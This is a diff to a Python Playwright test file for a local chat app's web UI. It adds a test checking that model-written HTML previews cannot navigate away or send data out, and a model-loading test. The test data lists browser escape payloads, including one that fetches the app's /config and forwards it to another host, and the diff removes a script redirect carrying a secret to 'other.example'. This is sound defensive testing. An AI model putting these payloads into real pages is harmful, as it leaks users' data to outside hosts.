@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import socket
 import time
 from collections.abc import Callable
 from dataclasses import replace
@@ -11,12 +12,14 @@ from typing import Any
 
 import pytest
 
+import glm4lite
 from glm4lite.engine import Engine
 from glm4lite.tools import BUILTIN_TOOLS
 from tests.ui.conftest import Serve
 from tests.ui.slow_model import slow_engine
 
 Visit = Callable[..., Any]
+NANO = Path(glm4lite.__file__).parent / "nano"
 QUESTION = "What is 37 * 24?"
 ASKING = [replace(tool, needs_approval=True) for tool in BUILTIN_TOOLS]
 
@@ -260,14 +263,48 @@ def test_what_a_model_writes_is_text_code_and_formulas_but_no_html(serve: Serve,
     visit.errors.clear()  # type: ignore[attr-defined]  # the policy's refusals, which Chromium logs
 
 
-def test_a_preview_cannot_leave_for_another_address(serve: Serve, visit: Visit, nano: Engine) -> None:
-    said = "```html\n<p>here</p><script>location.href = 'http://other.example/?secret'</script>\n```\n"
-    page = visit(serve(slow_engine(nano, said, seconds=0)).url)
-    ask(page, "Go")
-    wait_for_end(page)
-    page.click("#previews summary")
-    page.wait_for_timeout(500)
-    visit.errors.clear()  # type: ignore[attr-defined]
+@pytest.mark.parametrize(
+    "escape",
+    [
+        "<script>location.href = '{there}/?secret'</script>",
+        "<meta http-equiv=refresh content='0; url={there}/'>",
+        "<iframe src='{there}/'></iframe><img src='{there}/'><link rel=stylesheet href='{there}/'>",
+        "<script>open('{there}/'); top.location = '{there}/'; new Image().src = '{there}/'</script>",
+        "<form id=f action='{there}/'></form><script>f.submit()</script>",
+        "<script>fetch('{here}/config').then(r => r.text()).then(t => fetch('{there}/?' + t))</script>",
+    ],
+)
+def test_a_preview_reaches_nothing(serve: Serve, visit: Visit, nano: Engine, escape: str) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
+        there = f"http://127.0.0.1:{elsewhere.getsockname()[1]}"
+        site = serve(slow_engine(nano, "", seconds=0))
+        source = escape.format(there=there, here=site.url)
+        site.runtime.worker.engine = slow_engine(nano, f"```html\n<p>here</p>{source}\n```\n", seconds=0)
+        page = visit(site.url)
+        ask(page, "Go")
+        wait_for_end(page)
+        page.click("#previews summary")
+        page.wait_for_timeout(400)
+        assert received(elsewhere) == b""
+        assert page.url.startswith(site.url)
+    visit.errors.clear()  # type: ignore[attr-defined]  # what was refused is logged
+
+
+def received(server: socket.socket) -> bytes:
+    """All that was sent to it. Chromium opens a connection before it asks the policy, and sends nothing then."""
+    server.settimeout(0.05)
+    data = b""
+    while True:
+        try:
+            connection, _ = server.accept()
+        except TimeoutError:
+            return data
+        with connection:
+            connection.settimeout(0.3)
+            try:
+                data += connection.recv(1000)
+            except TimeoutError:
+                continue
 
 
 def test_the_page_is_usable_at_390_pixels_and_in_the_dark(serve: Serve, visit: Visit) -> None:
@@ -283,6 +320,26 @@ def test_the_page_is_usable_at_390_pixels_and_in_the_dark(serve: Serve, visit: V
     page.click("#library .toggle-button")
     page.click("#new-chat")
     page.wait_for_selector("text=No chats yet", state="detached")
+
+
+def test_another_model_is_loaded_and_a_wrong_one_leaves_the_old(serve: Serve, visit: Visit) -> None:
+    site = serve()
+    page = visit(site.url)
+    page.get_by_role("tab", name="Model").click()
+    page.locator("#model-column textarea").fill("/nowhere/at/all")
+    page.get_by_role("button", name="Load", exact=True).click()
+    page.wait_for_selector("#load-progress:has-text('/nowhere/at/all')")
+    before = site.runtime.engine
+    page.locator("#model-column textarea").fill(str(NANO))
+    page.get_by_label("Weights").click()
+    page.get_by_role("option", name="int8").click()
+    page.get_by_role("button", name="Load", exact=True).click()
+    page.wait_for_selector("#load-progress >> text=is loaded")
+    assert site.runtime.engine is not before
+    assert "int4" not in page.inner_text("#facts")
+    page.get_by_role("tab", name="Chat").click()
+    ask(page, QUESTION)
+    page.wait_for_selector("text=37 * 24 = 888.")
 
 
 def test_the_model_page_says_what_is_loaded(serve: Serve, visit: Visit) -> None:
